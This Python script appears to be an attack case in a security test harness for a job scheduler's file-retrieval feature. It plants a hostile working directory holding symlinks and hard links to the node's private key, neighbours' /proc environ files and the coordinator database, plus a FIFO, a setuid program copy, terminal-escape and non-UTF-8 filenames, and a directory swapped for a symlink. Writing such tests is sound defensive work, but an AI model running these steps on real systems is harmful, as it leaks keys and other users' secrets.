"""Attacks 1 and 13: leave a working directory that harms who brings files back from it (`--get '**'`): links to the
node's key, to the neighbour's record and out of the directory, hard links, a FIFO, a set-user-id program, and names
that are not UTF-8 or act on a terminal. With `swap` the directory itself is a link to the agent's state at the end.

Succeeds if what is brought back has a secret in it or a set-user-id bit, if the client hangs, or if other people's
output suffers; only the harness can see that.
"""

import os
import sys

from kit import attempt, report, scene, state

KEY = f"{state}/identity/own.key"

if sys.argv[2] == "swap":
    here = os.getcwd()
    for target in (state, f"{state}/allocs/{scene['allocation']}"):
        try:
            os.rename(here, f"{here}.moved")
            os.symlink(target, here)
        except OSError:
            continue
        break
elif sys.argv[2] == "names":
    for name in (b"\xff\xfe", b"a\x80b", "\u202egnp.exe".encode(), b"\x1b[31mred", b"new\nline", b"x" * 255):
        with open(name, "wb") as file:
            file.write(b"content")
    os.makedirs(b"\xffdeep/" + b"d/" * 40)
    with open(b"\xffdeep/in", "wb") as file:
        file.write(b"content")
else:
    spec = f"{state}/allocs/{scene['allocation']}/stdout"
    for link, target in {
        "key": KEY, "spec": spec, "state": state, "above": "..", "root": "/", "itself": "itself",
        "of-neighbour": f"/proc/{scene['neighbour']}/environ", "of-agent": f"/proc/{scene['agent']}/environ",
        "database": f"{scene['coordinator_state']}/grid.db",
    }.items():  # fmt: skip
        os.symlink(target, link)
    attempt("link the key", os.link, KEY, "linked-key")
    attempt("link the neighbour's record", os.link, spec, "linked-spec")
    os.mkfifo("fifo")
    with open("shell", "wb") as copy, open("/bin/sleep", "rb") as program:
        copy.write(program.read())
    try:
        os.chmod("shell", 0o6755)
    except OSError:
        os.chmod("shell", 0o755)
report()
